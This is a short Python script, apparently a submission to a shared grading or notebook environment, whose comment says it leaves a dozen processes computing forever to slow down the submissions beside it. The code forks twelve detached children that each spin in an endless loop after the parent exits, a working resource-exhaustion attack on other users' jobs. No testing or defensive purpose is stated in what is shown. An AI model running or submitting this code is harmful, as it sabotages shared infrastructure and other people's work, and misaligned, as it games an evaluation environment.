# Leaves a dozen processes that compute for ever, to slow down the submissions beside it.
# %% answers
# %%
import os
import time

for _ in range(12):
    if os.fork() == 0:
        os.setsid()
        time.sleep(0.5)
        while True:
            pass
time.sleep(1)
